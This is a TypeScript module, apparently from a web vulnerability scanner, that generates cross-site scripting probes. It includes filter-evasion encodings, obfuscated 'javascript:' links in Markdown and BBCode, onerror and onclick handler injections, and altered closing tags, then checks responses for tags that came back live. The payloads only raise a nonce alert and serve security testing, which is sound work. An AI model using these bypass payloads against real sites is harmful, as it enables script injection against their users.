import type { HtmlElement } from '../../probe/html/parse.ts';
import { attributeOf, isElement, nodesOf } from '../../probe/html/tree.ts';
import { fill, type TrialValues } from '../../proof/template.ts';
import type { Reflection } from '../dom/reflection.ts';
import { call } from '../dom/script-calls.ts';
import { framesFor, type ScriptFrame } from '../dom/script-frames.ts';
import { endOf, type Payload } from '../dom/xss-payloads.ts';

/** How markup has to be written to come back as such. */
export type Write = (markup: string) => string;
/** What a language of its own for text makes a link or a picture of. */
type MarkupLanguage = (address: string) => string;

/** Values in which a filter sees no angle brackets or quotes, and of which an application makes them afterwards. */
const encodings: readonly Write[] = [
  (value) => inSigns(value, (code) => `%${hex(code, 2)}`),
  (value) => inSigns(value, (code) => `%25${hex(code, 2)}`),
  (value) => value.replace(/[<>"']/g, (sign) => named[sign] ?? sign),
  (value) => inSigns(value, (code) => `\\u${hex(code, 4)}`),
  // the full-width forms, of which Unicode's compatibility normalisation makes the usual ones
  (value) => inSigns(value, (code) => String.fromCodePoint(code + 0xfee0)),
];

/** As they are written by programs and read by those that know no others. */
const named: Record<string, string> = { '<': '&lt;', '>': '&gt;', '"': '&quot;', "'": '&#039;' };
const hex = (code: number, digits: number): string => code.toString(16).padStart(digits, '0');
const inSigns = (value: string, encoded: (code: number) => string): string =>
  value.replace(/[<>"']/g, (sign) => encoded(sign.codePointAt(0) ?? 0));

/** Markdown, and the BBCode of forums. */
const languages: readonly MarkupLanguage[] = [
  (address) => `[link](${address})`,
  (address) => `[url=${address}]link[/url]`,
  (address) => `[url]${address}[/url]`,
  (address) => `![picture](${address})`,
  (address) => `[img]${address}[/img]`,
];

/** Addresses of script that are tried in a link: a renderer that knows none of the first takes few of the others. */
const maxAddresses = 4;
/** Brackets end a link of Markdown; in an address of script signs may be encoded. */
const callInLink = 'alert%60‹nonce›%60';

/** Links of each language, and links and pictures whose address ends its attribute. */
export const linksOfScript: readonly Payload[] = [
  ...[
    // A filter that knows one spelling of the scheme takes out that alone, and browsers take all.
    `[link](JaVaScRiPt:${callInLink}//https://)`,
    ...['\u0001javascript:', 'javascript&colon;'].map((scheme) => `[link](${scheme}${callInLink})`),
    // Where it is taken out once: of a text, or of each link.
    ...['javascript: [link](JaVaScRiPt:', '[link](javajavascript:script:'].map((begin) => `${begin}${callInLink})`),
    ...languages.slice(1, 3).map((language) => language(`JaVaScRiPt:${callInLink}//https://`)),
  ].map((value) => ({ value, clicks: ['a[href*="‹nonce›"]'] })),
  ...languages.slice(3).map((language) => ({ value: language(`x" onerror="${call}`) })),
  // Brackets and spaces end such an address: this handler has neither.
  ...languages.slice(0, 1).map((language) => ({
    value: language('https://x/"onclick="alert`‹nonce›`"x="'),
    clicks: ['a[onclick*="‹nonce›"]'],
  })),
];

const tagNames = ['b', 'svg', 'img', 'a', 'p', 'x-a', 'select'];
const tagOf = (name: string, index: number, space = ' '): string => `<${name}${space}data-x=‹nonce${index}›>`;
/** Some filters take out spaces, and not all that stands for one. */
const spaces: Record<string, string> = { p: '\n', 'x-a': '\f', select: '/' };

/** Markup written with what stood for a space in a tag that came back; as it is where that was a space. */
export function spacedLike(tag: string): Write {
  const [, space = ' '] = /<[\w-]+([^\w-])data-x=/.exec(tag) ?? [];
  return (markup) => markup.replaceAll(' ', space);
}

/** Tags behind what ends the place of a value. */
export const plainTags = (end: string): string[] =>
  tagNames.map((name, index) => end + tagOf(name, index + 1, spaces[name]));

/** Tags that came back as such, by their places among those that were sent. */
export function tagsIn(text: string, sent: readonly string[], values: TrialValues): number[] {
  const found = [...nodesOf(text)].map((node) =>
    isElement(node) ? attributeOf(node, 'data-x')?.toLowerCase() : undefined,
  );
  return [...sent.keys()].filter((index) => found.includes(fill(nonceIn(sent[index] ?? ''), values)));
}

const nonceIn = (template: string): string => /‹nonce\d+›/.exec(template)?.[0] ?? '';

/** One request that shows whether markup comes back that is written in another way, or that a language makes of text. */
type WayQuestion = {
  value: string;
  /** @param text the page that shows the value */
  answer(text: string, values: TrialValues): { write: Write | undefined; frames: ScriptFrame[] };
};

/** @param isAsked tags as they are have been asked for */
export function wayQuestion(reflection: Reflection, isAsked: boolean): WayQuestion {
  const end = endOf(reflection) ?? '';
  // Some let one tag pass that belongs into texts, as a link.
  const names = isAsked ? [] : ['b', 'a'];
  const writes: Write[] = [
    ...names.map(() => (value: string) => value),
    ...otherEnds(end).map(
      (other): Write =>
        (value) =>
          value.startsWith(end) ? other + value.slice(end.length) : value,
    ),
    ...encodings,
  ];
  const tags = writes.map((write, index) => write(end + tagOf(names[index] ?? tagNames[index % 2] ?? '', index + 1)));
  const isText = reflection.kind === 'markup' && end === '';
  const links = (isText ? languages : []).map((language, index) => language(`‹nonce${writes.length + index + 1}›`));
  return {
    // A language may ask for a line of its own.
    value: [...tags, ...links].join(links.length > 0 ? '\n' : ''),
    answer(text, values) {
      const [first = -1] = tagsIn(text, tags, values);
      const frames = links.flatMap((link, index) => {
        const language = languages[index];
        const word = fill(nonceIn(link), values);
        return language ? framesIn(language, linkedAt(text, word)) : [];
      });
      return { write: writes[first], frames };
    },
  };
}

/** Other spellings of the end of an element, for filters that take out or know one. */
function otherEnds(end: string): string[] {
  if (end === '-->') return ['--!>'];
  const name = /^<\/(\w+)>$/.exec(end)?.[1];
  if (name === undefined) return [];
  return [`</${name.toUpperCase()}>`, `</${name} x>`, `</${name.slice(0, 2)}</${name}>${name.slice(2)}>`];
}

/** The element whose address begins with a word. */
function linkedAt(text: string, word: string): HtmlElement | undefined {
  return [...nodesOf(text)].filter(isElement).find((element) => {
    const address = attributeOf(element, element.tagName === 'a' ? 'href' : 'src');
    return address?.trim().toLowerCase().startsWith(word) ?? false;
  });
}

function framesIn(language: MarkupLanguage, element: HtmlElement | undefined): ScriptFrame[] {
  if (!element) return [];
  const attribute = element.tagName === 'a' ? 'href' : 'src';
  const addresses: ScriptFrame[] =
    attribute === 'href' ? framesFor({ kind: 'url', quote: '"', element: 'a', attribute }).slice(0, maxAddresses) : [];
  const handlers = framesFor({ kind: 'attribute', quote: '"' }).filter(({ around }) => !around('x').includes('<'));
  return [...addresses.map((frame) => ({ ...frame, calls: [callInLink, ...frame.calls] })), ...handlers].map(
    (frame) => ({ ...frame, around: (code) => language(frame.around(code)) }),
  );
}
